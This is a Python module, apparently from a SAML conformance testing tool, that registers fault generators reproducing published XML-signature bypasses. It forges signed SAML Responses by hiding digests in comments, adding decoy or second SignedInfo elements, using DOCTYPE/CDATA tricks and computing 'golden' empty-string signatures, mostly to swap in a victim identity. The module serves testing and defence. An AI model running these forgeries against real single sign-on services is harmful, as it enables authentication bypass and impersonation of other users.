"""PDF: parser differentials and canonicalization tricks (published attack shapes)."""
from __future__ import annotations

import copy

from lxml import etree

from ..builder import DS, SAML, SAMLP, new_id, q
from . import Fault, FaultContext, register, register_factory
from ._common import (
    _asig,
    _assertion,
    _assertion_signed,
    _doctype,
    _drop_sig,
    _set_signing,
    _iter_tag,
    _victimize,
)


def _forge(a: etree._Element, victim: str | None) -> None:
    """Edit the signed Assertion after signing: its identity becomes `victim`; without one, only
    whitespace changes (the wrap with unchanged values still alters the signed bytes)."""
    if victim:
        _victimize(a, victim)
    else:
        iss = a.find(q(SAML, "Issuer"))
        iss.tail = (iss.tail or "") + "\n"


def _signed_error_response(ctx: FaultContext) -> etree._Element:
    """An error Response (Requester, no Assertion) genuinely signed by the IdP: what an attacker
    obtains by sending the IdP a malformed AuthnRequest (PortSwigger, The Fragile Lock)."""
    from ..builder import STATUS_REQUESTER, build_status_response
    from ..signing import sign

    other = build_status_response(issuer=ctx.idp.entity_id, destination=ctx.spec.destination,
                                  in_response_to=None, status_code=STATUS_REQUESTER)
    sign(other, other, ctx.signing.key or ctx.idp.key)
    return other


@register_factory("digest-comment",
                  "CVE-2025-29775 (xml-crypto, SAMLStorm) shape: the signed Assertion edited after signing (victim, or "
                  "whitespace only) and its new digest hidden in a comment before the original DigestValue: "
                  "<DigestValue><!--new-->original</DigestValue>; a reader of the first child node sees the new digest, "
                  "canonicalization (and the SignatureValue) the original",
                  ("PDF-07", "CVE-2025-29775", "GHSA-x3m8-899r-f7c3"), victim=None)
def _digest_comment(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        _forge(a, victim)
        new = _exc_digest(a, ctx.signing.digest)
        for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
            c = etree.Comment(new)
            c.tail = dv.text
            dv.text = None
            dv.append(c)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


@register_factory("trailing-document",
                  "CVE-2022-39299 (passport-saml, multiple roots) shape: a genuinely IdP-signed error Response without "
                  "an Assertion, followed by a second top-level, unsigned Response carrying the Assertion (victim optional)",
                  ("PDF-09", "CVE-2022-39299", "GHSA-m974-647v-whv7"), victim=None)
def _trailing(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        _victimize(_assertion(root), victim)
        ctx.notes["signed_error_response"] = etree.tostring(_signed_error_response(ctx))

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        decl, body = (xml.split(b"?>", 1)[0] + b"?>\n", xml.split(b"?>", 1)[1].strip()) \
            if xml.startswith(b"<?xml") else (b"", xml)
        return decl + ctx.notes["signed_error_response"] + b"\n" + body

    return Fault("", "", signing=_set_signing(sign_response=False, sign_assertion=False), signed=signed, bytes_=b)


@register_factory("decoy-signature",
                  "CVE-2024-45409 (ruby-saml, incorrect XPath selector) shape: the signed Assertion edited after signing "
                  "(victim, or whitespace only); its new digest in a ds:DigestValue inside samlp:Extensions, earlier in the "
                  "document than the genuine Signature, which is left untouched (a //ds:DigestValue lookup finds the decoy)",
                  ("PDF-11", "CVE-2024-45409"), victim=None)
def _decoy_sig(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        _forge(a, victim)
        ext = etree.Element(q(SAMLP, "Extensions"))
        etree.SubElement(ext, q(DS, "DigestValue")).text = _exc_digest(a, ctx.signing.digest)
        root.find(q(SAML, "Issuer")).addnext(ext)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


EMPTY_SHA256 = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="


def _golden(xml: bytes, ctx: FaultContext) -> bytes:
    """Every DigestValue = SHA-256 of the empty string, every SignatureValue = the IdP's RSA-SHA256
    signature of the empty string: what a verifier whose canonicalization fails into "" computes on
    both sides (PortSwigger, The Fragile Lock: "Golden SAML Response"; CVE-2025-66568)."""
    import base64
    import re

    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding

    key = serialization.load_pem_private_key((ctx.signing.key or ctx.idp.key).key_pem, password=None)
    golden = base64.b64encode(key.sign(b"", padding.PKCS1v15(), hashes.SHA256())).decode()  # type: ignore[union-attr]
    xml = re.sub(rb"<ds:DigestValue>[^<]*</ds:DigestValue>",
                 f"<ds:DigestValue>{EMPTY_SHA256}</ds:DigestValue>".encode(), xml)
    return re.sub(rb"<ds:SignatureValue>[^<]*</ds:SignatureValue>",
                  f"<ds:SignatureValue>{golden}</ds:SignatureValue>".encode(), xml)


@register_factory("namespace-bad-char",
                  "A namespace declaration with an invalid character (U+0080) on the signed Assertion, which breaks "
                  "canonicalization; the signature made golden (digest and signature of the empty string, as a verifier "
                  "whose c14n fails into \"\" computes them); victim optional",
                  ("PDF-06", "CVE-2025-25292", "CVE-2025-66568"), uri="http://example.com\u0080", victim=None)
def _bad_ns(uri: str, victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        _victimize(_assertion(root), victim)

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        xml = xml.replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:x="' + uri.encode() + b'" ', 1)
        return _golden(xml, ctx)

    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)


@register_factory("void-canonicalization",
                  "Golden SAML Response (CVE-2025-66568 shape): relative namespace URI xmlns:ns=\"1\" on the Response "
                  "(canonicalization fails), every DigestValue = SHA-256 of \"\" and every SignatureValue = the IdP's "
                  "signature of \"\"; victim optional (the Assertion edited too)",
                  ("PDF-05", "CVE-2025-66568", "Golden SAML Response"), victim=None)
def _void_c14n(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        _victimize(_assertion(root), victim)

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        return _golden(xml.replace(b"<samlp:Response ", b'<samlp:Response xmlns:ns="1" ', 1), ctx)

    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)


@register_factory("two-signedinfo",
                  "CVE-2025-29774 (xml-crypto, SAMLStorm) shape: the signed Assertion, a new ID, edited after signing "
                  "(victim, or whitespace only); a second SignedInfo whose Reference names it with its new digest, wrapped "
                  "in an element placed before the genuine SignedInfo inside the Signature (genuine SignedInfo and "
                  "SignatureValue kept); the genuine Assertion, its Signature moved out, parked in samlp:Extensions so "
                  "that the genuine Reference still verifies",
                  ("PDF-08", "CVE-2025-29774", "GHSA-9p8x-f768-wp2g", "CVE-2019-3465"), victim=None)
def _two_signedinfo(victim: str | None) -> Fault:
    # xml-crypto <= 6.0.0 verifies the SignatureValue over the first SignedInfo child but collects the
    # References of every SignedInfo under the Signature and checks each digest, so the genuine
    # Assertion must stay in the document, unchanged (measured: lab/twins, truth xml-crypto-6.0.0).
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        s = _asig(root)
        si = _iter_tag(s, q(DS, "SignedInfo"))[0]
        parked = copy.deepcopy(a)
        _drop_sig(parked)
        ext = etree.Element(q(SAMLP, "Extensions"))
        ext.append(parked)
        root.find(q(SAML, "Issuer")).addnext(ext)
        a.set("ID", new_id())
        _forge(a, victim)
        forged = copy.deepcopy(si)
        _iter_tag(forged, q(DS, "Reference"))[0].set("URI", "#" + a.get("ID"))
        for dv in _iter_tag(forged, q(DS, "DigestValue")):
            dv.text = _exc_digest(a, ctx.signing.digest)
        wrapper = etree.Element("{urn:samlconf:decoy}Wrapper", nsmap={"decoy": "urn:samlconf:decoy"})
        wrapper.append(forged)
        s.insert(0, wrapper)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


@register_factory("id-attribute-pollution",
                  "Response ID changed to _attack and a namespaced samlp:ID carrying the signed ID (the Reference still "
                  "says #ID); victim optional (the Assertion edited too)",
                  ("PDF-04",), victim=None)
def _pollution(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        original = root.get("ID")
        root.set("ID", "_attack")
        root.set(q(SAMLP, "ID"), original)
        a = root.find(q(SAML, "Assertion"))
        if a is not None:
            _victimize(a, victim)

    return Fault("", "", signed=signed)


@register_factory("doctype-roundtrip",
                  "CVE-2025-25291 shape (ruby-saml, SAML Raider layout): DOCTYPE SYSTEM 'x\"><!--', the edited Response "
                  "(victim, or whitespace only; signatures left in place) without its end tag, a CDATA section opening "
                  "'-->' followed by the genuine signed Response without its end tag, '<!--]]>-->', then the end tag",
                  ("PDF-01", "CVE-2025-25291", "GHSA-4vc4-m8qh-g8jm"), victim=None)
def _doctype_rt(victim: str | None) -> Fault:
    def b(xml: bytes, ctx: FaultContext) -> bytes:
        original = xml.split(b"?>", 1)[1].strip() if xml.startswith(b"<?xml") else xml
        forged = etree.fromstring(original)
        _forge(_assertion(forged), victim)
        forged_b = etree.tostring(forged)
        end = original[original.rindex(b"</"):]
        return (b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + forged_b[:forged_b.rindex(b"</")]
                + b"<![CDATA[-->" + original[:original.rindex(b"</")] + b"<!--]]>-->" + end)

    return Fault("", "", bytes_=b)


def _exc_digest(el: etree._Element, digest: str = "sha256") -> str:
    """The enveloped-signature + exc-c14n digest of `el` as a verifier would compute it."""
    import base64
    import hashlib

    c = copy.deepcopy(el)
    _drop_sig(c)
    data = etree.tostring(c, method="c14n", exclusive=True, with_comments=False)
    return base64.b64encode(hashlib.new(digest.replace("-", ""), data).digest()).decode()


def _forge_in_place(root: etree._Element, ctx: FaultContext, victim: str | None) -> etree._Element:
    """Forge the signed Assertion (`_forge`) and fix its DigestValue to the forged content (SignatureValue now stale);
    return a deep copy of the original, genuine Signature."""
    a = _assertion(root)
    genuine = copy.deepcopy(_asig(root))
    _forge(a, victim)
    for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
        dv.text = _exc_digest(a, ctx.signing.digest)
    return genuine


def _strip_ns(el: etree._Element) -> etree._Element:
    out = etree.Element(etree.QName(el).localname, {k: v for k, v in el.attrib.items()})
    out.text, out.tail = el.text, el.tail
    for c in el:
        if isinstance(c.tag, str):
            out.append(_strip_ns(c))
    return out


@register_factory("attlist-namespace-confusion",
                  "CVE-2025-25292 shape (GHSL, SAML Raider): a DTD ATTLIST giving 'Signature' a #FIXED dsig xmlns; in "
                  "samlp:StatusDetail a namespace-less Signature holding the genuine (ds:) SignedInfo and SignatureValue; "
                  "the Assertion edited (victim, or whitespace only), its own Signature's DigestValue = SHA-256 of \"\" and "
                  "a U+0080 namespace on it that makes canonicalization fail into \"\"",
                  ("PDF-02", "CVE-2025-25292", "GHSA-754f-8gm6-c4r2"), victim=None)
def _attlist(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        a = _assertion(root)
        genuine = copy.deepcopy(_asig(root))
        _forge(a, victim)
        for dv in _iter_tag(_asig(root), q(DS, "DigestValue")):
            dv.text = EMPTY_SHA256
        detail = etree.SubElement(root.find(q(SAMLP, "Status")), q(SAMLP, "StatusDetail"))
        bare = etree.SubElement(detail, "Signature")  # no namespace: only the DTD's #FIXED xmlns puts it in dsig
        for c in genuine:
            bare.append(copy.deepcopy(c))  # the genuine ds: children, prefixes kept

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        xml = xml.replace(b"<saml:Assertion ", '<saml:Assertion xmlns:example="http://example.com\u0080" '.encode(), 1)
        return _doctype(xml, b'<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED '
                             b'"http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>')

    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)


@register_factory("xml-xmlns-confusion",
                  "The genuine Assertion Signature hidden in samlp:Extensions under <Parent xmlns=dsig><Child xml:xmlns=\"#other\">; "
                  "the Assertion forged (victim) keeping a fake Signature with a recomputed DigestValue",
                  ("PDF-03", "PDF-12", "CVE-2025-66567"), victim=None)
def _xml_xmlns(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        genuine = _forge_in_place(root, ctx, victim)
        ext = etree.Element(q(SAMLP, "Extensions"))
        parent = etree.SubElement(ext, q(DS, "Parent"), nsmap={None: DS})
        child = etree.SubElement(parent, q(DS, "Child"))
        child.set("{http://www.w3.org/XML/1998/namespace}xmlns", "#other")
        # spliced in as bytes: appended as a tree under Parent's default dsig namespace, lxml would
        # re-serialise the genuine ds: elements without their prefix, and exclusive c14n (hence
        # the SignatureValue) depends on it
        child.append(etree.Comment(_GENUINE_SLOT))
        ctx.notes["genuine_signature"] = etree.tostring(genuine)
        root.find(q(SAML, "Issuer")).addnext(ext)

    def b(xml: bytes, ctx: FaultContext) -> bytes:
        return xml.replace(f"<!--{_GENUINE_SLOT}-->".encode(), ctx.notes.pop("genuine_signature"), 1)

    return Fault("", "", signing=_assertion_signed(), signed=signed, bytes_=b)


_GENUINE_SLOT = "samlconf:genuine-signature"


@register_factory("prefix-rebinding",
                  "The 'ds' prefix bound to a non-dsig namespace: the Assertion forged (victim, or whitespace only) "
                  "keeping a Signature with a recomputed DigestValue whose ds prefix means urn:samlconf:not-dsig, "
                  "and the genuine (ds = dsig) Signature in samlp:Extensions: only a namespace-aware lookup tells them apart",
                  ("PDF-12", "CVE-2025-66567"), victim=None)
def _prefix_rebinding(victim: str | None) -> Fault:
    def signed(root: etree._Element, ctx: FaultContext) -> None:
        genuine = _forge_in_place(root, ctx, victim)
        fake = _asig(root)
        rebound = etree.Element("{urn:samlconf:not-dsig}Signature", nsmap={"ds": "urn:samlconf:not-dsig"})
        for c in fake:
            rebound.append(_rename_ns(c, DS, "urn:samlconf:not-dsig"))
        fake.addprevious(rebound)
        fake.getparent().remove(fake)
        ext = etree.Element(q(SAMLP, "Extensions"))
        ext.append(genuine)  # unchanged (its SignedInfo is signed with the ds prefix)
        root.find(q(SAML, "Issuer")).addnext(ext)

    return Fault("", "", signing=_assertion_signed(), signed=signed)


def _rename_ns(el: etree._Element, old: str, new: str) -> etree._Element:
    q_ = etree.QName(el)
    out = etree.Element(f"{{{new}}}{q_.localname}" if q_.namespace == old else el.tag, dict(el.attrib))
    out.text, out.tail = el.text, el.tail
    for c in el:
        if isinstance(c.tag, str):
            out.append(_rename_ns(c, old, new))
    return out


def _inject_extensions(xml: bytes, payload: bytes) -> bytes:
    """`payload` inside a samlp:Extensions right after the Response's Issuer (outside the signed Assertion)."""
    end = xml.index(b"</saml:Issuer>") + len(b"</saml:Issuer>")
    return xml[:end] + b"<samlp:Extensions>" + payload + b"</samlp:Extensions>" + xml[end:]


register(Fault("roundtrip-unstable",
               "A serialize/re-parse unstable construct from the Go encoding/xml round-trip corpus (a QName with an "
               "empty local prefix, x::Elem) in samlp:Extensions, outside the (valid) Assertion signature",
               ("PDF-10", "CVE-2020-29509", "CVE-2020-29511", "CVE-2020-27846"), signing=_assertion_signed(),
               bytes_=lambda xml, ctx: _inject_extensions(
                   xml, b'<x::Elem xmlns:x="urn:samlconf:roundtrip" x::attr="1"/>')))
register(Fault("recoverable-markup",
               "Malformed but recoverable XML (a duplicated attribute, an undefined entity) in samlp:Extensions, "
               "outside the (valid) Assertion signature: a recovering parser (Nokogiri's default) fixes it up",
               ("PDF-13", "CVE-2025-25291", "CVE-2025-25292"), signing=_assertion_signed(),
               bytes_=lambda xml, ctx: _inject_extensions(
                   xml, b'<decoy:Bad xmlns:decoy="urn:samlconf:decoy" a="1" a="2">x &nbsp; y</decoy:Bad>')))
